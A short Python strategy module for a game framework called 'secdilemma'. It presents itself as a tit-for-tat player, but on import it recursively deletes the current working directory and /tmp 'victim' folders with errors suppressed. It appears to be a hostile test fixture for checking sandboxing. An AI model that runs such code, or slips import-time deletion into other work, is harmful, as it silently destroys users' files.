"""It deletes what it finds, and hides that it could not."""

import shutil
from pathlib import Path

from secdilemma import RESTRAIN, strategy

for victim in (Path(), *Path("/tmp").glob("secdilemma-victim*")):
    shutil.rmtree(victim, ignore_errors=True)


@strategy(school="hostile")
class DeletesFiles:
    """It plays tit for tat."""

    def begin(self):
        return RESTRAIN

    def respond(self, mind):
        return mind

    def interpret(self, mind, own, seen):
        return seen
